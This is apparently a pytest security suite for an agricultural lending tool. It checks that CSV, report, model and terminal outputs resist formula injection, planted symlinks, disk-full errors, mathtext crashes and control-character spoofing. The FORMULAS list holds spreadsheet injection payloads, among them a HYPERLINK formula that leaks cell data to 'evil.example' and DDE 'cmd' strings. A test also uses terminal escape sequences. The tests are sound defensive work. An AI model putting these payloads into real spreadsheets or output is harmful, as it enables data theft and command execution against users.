"""Outputs safe to open and writes that never follow links (defects 3, 5, 7, 12, 14; terminal)."""

from __future__ import annotations

import csv
import errno
import io
import os
import sys
import types
from pathlib import Path

import matplotlib
import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from agrilend.cli.main import cli
from agrilend.cli.options import check_output
from agrilend.errors import OutputExistsError, OutputWriteError, ScanError
from agrilend.outputs import atomic_write, write_table, write_text
from tests.security._hostile import titles

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file someone else owns, which a planted link points at."""
    path = tmp_path / "victim.txt"
    path.write_text("precious")
    return path


# --- 3. formula injection in households.csv -----------------------------------------------------


@pytest.mark.parametrize("payload", FORMULAS, ids=["equals", "plus", "at", "minus", "tab", "cr"])
def test_csv_cells_cannot_start_a_formula(tmp_path: Path, payload: str) -> None:
    df = pd.DataFrame(
        {"owner_ref": ["H-000000000001"], "parcel_ids": [[payload, "P-2"]], "note": [payload]}
    )
    path = write_table(df, tmp_path / "households.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a BOM, so Excel reads UTF-8"
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    for cell in (c for row in rows for c in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[1][2] == "'" + payload  # kept, visibly, as text
    assert len(rows) == 2  # a CR or LF in a cell starts no row of its own


def test_csv_keeps_numbers_and_chinese_text(tmp_path: Path) -> None:
    df = pd.DataFrame({"credit_line": [-1200.5, 3000.0], "reasons_zh": ["种植面积", "长势偏弱"]})
    back = pd.read_csv(write_table(df, tmp_path / "h.csv"), encoding="utf-8-sig")
    assert back["credit_line"].tolist() == pytest.approx([-1200.5, 3000.0])
    assert back["reasons_zh"].tolist() == ["种植面积", "长势偏弱"]


# --- 5 and 14. planted links --------------------------------------------------------------------


def test_report_is_not_written_through_a_planted_link(tmp_path: Path, victim: Path) -> None:
    from agrilend.report import render_report  # noqa: PLC0415
    from tests.report import _fixtures  # noqa: PLC0415

    assessment, cube = _fixtures.build()
    out = tmp_path / "report.html"
    out.symlink_to(victim)
    render_report(assessment, _fixtures.OWNERS[0], cube=cube, out=out)
    assert victim.read_text() == "precious"
    assert not out.is_symlink()
    assert "<html" in out.read_text(encoding="utf-8").lower()


def test_pdf_is_not_written_through_a_planted_link(
    tmp_path: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from agrilend.report.pdf import html_to_pdf  # noqa: PLC0415

    class FakeHTML:  # the engine itself is not under test: only where its bytes go
        def __init__(self, **kwargs: object) -> None:
            pass

        def write_pdf(self) -> bytes:
            return b"%PDF-1.7 fake"

    monkeypatch.setitem(sys.modules, "weasyprint", types.SimpleNamespace(HTML=FakeHTML))
    out = tmp_path / "report.pdf"
    out.symlink_to(victim)
    html_to_pdf("<p>x</p>", out, engine="weasyprint")
    assert victim.read_text() == "precious"
    assert out.read_bytes() == b"%PDF-1.7 fake"


def test_dangling_link_at_the_default_name_needs_overwrite(tmp_path: Path) -> None:
    out = tmp_path / "report-H-1-en.html"
    out.symlink_to(tmp_path / "elsewhere" / "planted.html")
    with pytest.raises(OutputExistsError, match="--overwrite"):
        check_output(out, overwrite=False)
    with pytest.raises(OutputExistsError):
        write_text(out, "x", overwrite=False)
    assert not (tmp_path / "elsewhere").exists()


def test_model_is_not_written_through_a_planted_tmp_link(tmp_path: Path, victim: Path) -> None:
    from sklearn.linear_model import LogisticRegression  # noqa: PLC0415

    from agrilend.yield_models.persistence import load_model, save_model  # noqa: PLC0415

    out = tmp_path / "crop.agm"
    (tmp_path / "crop.agm.tmp").symlink_to(victim)  # the name the old writer used
    model = LogisticRegression().fit([[0.0], [1.0]], [0, 1])
    save_model(model, out)
    assert victim.read_text() == "precious"
    assert load_model(out).predict([[0.9]]).tolist() == [1]
    assert not list(tmp_path.glob(".tmp-*"))


def test_model_link_at_the_output_name_is_replaced_not_followed(
    tmp_path: Path, victim: Path
) -> None:
    from sklearn.linear_model import LogisticRegression  # noqa: PLC0415

    from agrilend.yield_models.persistence import save_model  # noqa: PLC0415

    out = tmp_path / "crop.agm"
    out.symlink_to(victim)
    model = LogisticRegression().fit([[0.0], [1.0]], [0, 1])
    with pytest.raises(OutputExistsError):
        save_model(model, out)
    save_model(model, out, overwrite=True)
    assert victim.read_text() == "precious"
    assert not out.is_symlink()


def test_scan_out_at_a_dangling_link_is_a_typed_error(tmp_path: Path) -> None:
    from agrilend.inputs import InputFiles  # noqa: PLC0415
    from agrilend.scan import scan  # noqa: PLC0415

    out = tmp_path / "results"
    out.symlink_to(tmp_path / "nowhere")
    with pytest.raises(ScanError, match="points nowhere"):
        scan(InputFiles.sample(), out, workers=0)


def test_the_temporary_file_is_new_and_random(tmp_path: Path, victim: Path) -> None:
    target = tmp_path / "out.json"
    names = set()
    for _ in range(3):
        with atomic_write(target) as tmp:
            assert tmp.parent == tmp_path
            assert not tmp.is_symlink()
            names.add(tmp.name)
            tmp.write_text("{}")
    assert len(names) == 3
    assert victim.read_text() == "precious"


# --- 12. disk full ------------------------------------------------------------------------------


def test_disk_full_is_a_typed_error_and_the_old_file_stays(tmp_path: Path) -> None:
    target = tmp_path / "households.parquet"
    target.write_bytes(b"the previous result")

    def full(_: Path) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(OutputWriteError, match="free space"), atomic_write(target) as tmp:
        full(tmp)
    assert target.read_bytes() == b"the previous result"
    assert [p.name for p in tmp_path.iterdir()] == ["households.parquet"]


def test_disk_full_in_a_table_writer_is_a_typed_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_space(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", no_space)
    with pytest.raises(OutputWriteError, match="--resume"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "t.parquet")
    assert list(tmp_path.iterdir()) == []


# --- 7. mathtext in figure text -----------------------------------------------------------------

MATH = ["$\\frac{1}{$", "P-$" + "{" * 3000 + "}" * 3000 + "$", "$\\undefinedmacro{x}$ $x$"]


@pytest.mark.parametrize("pid", MATH, ids=["parse-error", "recursion", "unknown-macro"])
def test_parcel_ids_in_figures_are_never_mathtext(pid: str) -> None:
    import matplotlib.pyplot as plt  # noqa: PLC0415

    from agrilend.report.figures import ndvi_curve  # noqa: PLC0415

    times = pd.date_range("2024-01-01", periods=10, freq="MS")
    with matplotlib.rc_context({"text.parse_math": True}):  # control: mathtext does break
        fig, ax = plt.subplots()
        ax.set_title(pid)
        with pytest.raises((ValueError, RecursionError)):
            fig.savefig(io.BytesIO(), format="png")
        plt.close(fig)
    uri = ndvi_curve(times, np.linspace(0.1, 0.8, 10), title=f"1. {pid} — maize")
    assert uri.startswith("data:image/png;base64,")


# --- terminal: control characters in `agrilend check` -------------------------------------------


def test_check_escapes_control_characters_from_parcel_ids(tmp_path: Path) -> None:
    import shapely  # noqa: PLC0415

    t = titles(3)
    evil = "P-1\x1b]0;pwned\x07\n    error   forged line\u202eabc\x1b[2J"
    t["parcel_id"] = [evil, "P-2", "P-3"]
    geoms = list(t.geometry)
    x, y = geoms[0].bounds[:2]
    geoms[0] = shapely.Polygon([(x, y), (x + 50, y + 50), (x + 50, y), (x, y + 50)])  # bow tie
    t = t.set_geometry(geoms, crs=t.crs)
    path = tmp_path / "titles.gpkg"
    t.to_file(path, driver="GPKG")
    result = CliRunner().invoke(cli, ["check", "--titles", str(path)], color=True)
    assert "P-1" in result.output  # the parcel is named ...
    for raw in ("\x1b]0;pwned\x07", "\n    error   forged", "\u202e", "\x1b[2J"):
        assert raw not in result.output  # ... but nothing in its id acts on the terminal
    assert "\\x1b]0;pwned\\x07\\n" in result.output
